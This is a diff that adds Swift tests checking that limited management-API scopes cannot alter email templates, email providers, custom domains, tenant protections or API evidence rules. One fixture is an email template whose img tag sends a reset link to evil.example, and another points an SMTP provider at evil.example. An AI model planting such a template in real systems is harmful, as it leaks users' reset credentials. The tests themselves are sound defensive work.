@@ -111,6 +111,131 @@ struct ElevationTests {
         #expect(await create(other, poor).status == 201, "other APIs' scopes are no rights here")
     }
 
+    private static let mail: JSONObject = [
+        "body": "<img src='https://evil.example/?{{ url | url_encode }}'>", "from": "a@example.com", "subject": "x",
+        "syntax": "liquid", "enabled": true,
+    ]
+
+    @Test("Scopes of e-mail alone store no mail that carries a credential, and change no provider")
+    func mails() async throws {
+        let fixture = try await ManagementFixture()
+        _ = await fixture.post(
+            "/emails/provider", ["name": "resend", "enabled": false, "credentials": ["api_key": "k"]])
+        _ = await fixture.post("/email-templates", .object(Self.mail.patched(with: ["template": "reset_email"])))
+        let before = try await fixture.server.dump()
+        let email = ["email_provider", "email_templates"].flatMap { object in
+            ["create", "read", "update"].map { "\($0):\(object)" }
+        }
+        let poor = try await fixture.with(scopes: email)
+        for kind in ["reset_email", "change_password", "password_reset", "verify_email", "enrollment_email"] {
+            let whole = Self.mail.patched(with: ["template": .string(kind)])
+            for answer in [
+                await poor.post("/email-templates", .object(whole)),
+                await poor.put("/email-templates/\(kind)", .object(whole)),
+            ] {
+                let is409 = answer.status == 409 && kind == "reset_email"
+                #expect(is409 || answer.code == "insufficient_scope", "\(kind): \(answer.text)")
+            }
+        }
+        #expect(await poor.patch("/email-templates/reset_email", ["enabled": false]).code == "insufficient_scope")
+        let server: JSONValue = ["smtp_host": "evil.example", "smtp_port": 25, "smtp_user": "a", "smtp_pass": "b"]
+        for body: JSONValue in [
+            ["enabled": true], ["name": "smtp", "credentials": server], ["default_from_address": "a@evil.example"],
+        ] {
+            #expect(await poor.patch("/emails/provider", body).code == "insufficient_scope", "\(body)")
+        }
+        #expect(
+            await poor.post("/emails/provider", ["name": "smtp", "credentials": server]).code == "insufficient_scope")
+        #expect(try await fixture.server.dump() == before)
+        let other = Self.mail.patched(with: ["template": "async_approval"])
+        #expect(await poor.post("/email-templates", .object(other)).status == 200, "its link is no credential")
+        let tickets = try await fixture.with(scopes: email + ["create:user_tickets"])
+        #expect(await tickets.patch("/email-templates/reset_email", ["subject": "y"]).status == 200)
+        #expect(await tickets.patch("/emails/provider", ["enabled": true]).code == "insufficient_scope")
+        let both = try await fixture.with(
+            scopes: email + ["create:user_tickets", "create:guardian_enrollment_tickets"])
+        #expect(await both.patch("/emails/provider", ["enabled": true]).status == 200)
+    }
+
+    @Test("A name for the tenant, to which links in mails lead, needs the scopes of these links")
+    func domains() async throws {
+        let fixture = try await ManagementFixture()
+        let poor = try await fixture.with(scopes: ["create:custom_domains"])
+        #expect(await poor.post("/custom-domains", ["domain": "evil.example"]).code == "insufficient_scope")
+    }
+
+    @Test(
+        "update:tenant_settings alone destroys no evidence and turns no protection of people off",
+        arguments: [
+            ["approval_retention": 86_400], ["approval_retention": nil], ["evidence": nil], ["report_pause": 0],
+            ["rejection_pause": 0], ["rejections_before_pause": 1000], ["requests_per_minute_per_user": 1000],
+            ["pending_requests_per_user": 1000], ["matching": nil], ["login_matching": "off"],
+            ["log_ins_per_minute_per_address": 5, "brute_force_protection": ["window": 60]],
+            ["brute_force_protection": nil], ["password_minimum_length": 8], ["session_lifetime": 8000],
+            ["idle_session_lifetime": 8000], ["link_verified_emails": true], ["enrollment_ticket_lifetime": 2_592_000],
+        ] as [JSONObject])
+    func protections(body: JSONObject) async throws {
+        let fixture = try await ManagementFixture()
+        let before = try await fixture.server.dump()
+        let poor = try await fixture.with(scopes: ["update:tenant_settings"])
+        let answer = await poor.patch("/tenants/settings", .object(body))
+        #expect(answer.status == 403 && answer.code == "insufficient_scope", "\(body): \(answer.text)")
+        #expect(try await fixture.server.dump() == before)
+    }
+
+    @Test("A setting of the server's resources rises to the operator's ceiling; the operator's own value may stay")
+    func ceilings() async throws {
+        let fixture = try await ManagementFixture {
+            $0.tenant.settings.managementRequestsPerMinute = 900_000
+        }
+        let poor = try await fixture.with(scopes: ["update:tenant_settings"])
+        func set(_ name: String, _ value: Int) async -> HTTPAnswer {
+            await poor.patch("/tenants/settings", .object([name: .number(JSONNumber(value))]))
+        }
+        let ceilings = TenantCeilings()
+        for (name, ceiling) in [
+            ("pending_requests", ceilings.pendingRequests),
+            ("client_tokens_per_minute", ceilings.clientTokensPerMinute),
+            ("logins_per_minute_per_address", ceilings.loginsPerMinutePerAddress),
+        ] {
+            let refused = await set(name, ceiling + 1)
+            #expect(refused.code == "invalid_body" && refused.message.contains("at most \(ceiling)"), "\(refused.text)")
+            #expect(await set(name, ceiling).status == 200, "\(name)")
+        }
+        #expect(await set("management_requests_per_minute", 900_001).status == 400)
+        #expect(await set("management_requests_per_minute", 800_000).status == 200, "lower than the operator's")
+        #expect(await set("management_requests_per_minute", 800_001).status == 400)
+    }
+
+    @Test("An API's demands for evidence and matching cannot be dropped by leaving them out")
+    func demands() async throws {
+        let fixture = try await ManagementFixture()
+        let made = await fixture.post(
+            "/resource-servers",
+            [
+                "identifier": "https://e.example/", "evidence": "signed-digest",
+                "authorization_details": [
+                    ["type": "pay", "evidence": "passkey", "matching": "choose"], ["type": "look"],
+                ],
+            ])
+        let path = "/resource-servers/\(try (made["id"]?.stringValue).orThrow(made.text))"
+        let poor = try await fixture.with(scopes: ["update:resource_servers"])
+        for types: JSONValue in [
+            [["type": "pay"]], [["type": "look"]], [], .null, [["type": "pay", "evidence": "signed-digest"]],
+            [["type": "pay", "evidence": "passkey", "matching": "choose", "urgent": true], ["type": "look"]],
+        ] {
+            let answer = await poor.patch(path, ["authorization_details": types])
+            #expect(answer.code == "insufficient_scope", "\(types): \(answer.text)")
+        }
+        for body: JSONValue in [["evidence": nil], ["approval_in_tokens": false]] {
+            #expect(await poor.patch(path, body).code == "insufficient_scope", "\(body)")
+        }
+        #expect(await poor.patch(path, ["name": "E"]).status == 200)
+        let able = try await fixture.with(
+            scopes: ["update:resource_servers", "update:approval_evidence", "update:mfa_policies"])
+        #expect(await able.patch(path, ["authorization_details": [["type": "look"]]]).status == 200)
+    }
+
     @Test("Tenant settings that /guardian also has require its scopes")
     func settings() async throws {
         let fixture = try await ManagementFixture()
